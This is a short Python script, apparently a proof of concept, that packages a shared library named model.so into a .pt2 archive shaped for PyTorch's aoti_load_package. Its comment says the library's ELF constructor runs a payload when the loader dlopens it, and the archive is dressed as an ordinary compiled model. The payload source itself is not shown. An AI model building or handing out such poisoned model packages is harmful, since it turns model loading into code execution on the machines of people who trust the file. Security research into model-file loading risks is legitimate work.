# a .pt2 archive for torch._inductor.aoti_load_package: data/aotinductor/model/model.so is a shared
# library whose ELF constructor runs the payload when the loader dlopens it (gcc -shared evil.c)
import zipfile, os
here = os.path.dirname(os.path.abspath(__file__))
so = open(os.path.join(here, "model.so"), "rb").read()
with zipfile.ZipFile(os.path.join(here, "aoti.pt2"), "w") as z:
    z.writestr("aoti/archive_format", "pt2")
    z.writestr("aoti/archive_version", "0")
    z.writestr("aoti/byteorder", "little")
    z.writestr("aoti/data/aotinductor/model/model.so", so)
    z.writestr("aoti/data/aotinductor/model/model_metadata.json", '{"AOTI_DEVICE_KEY": "cpu"}')
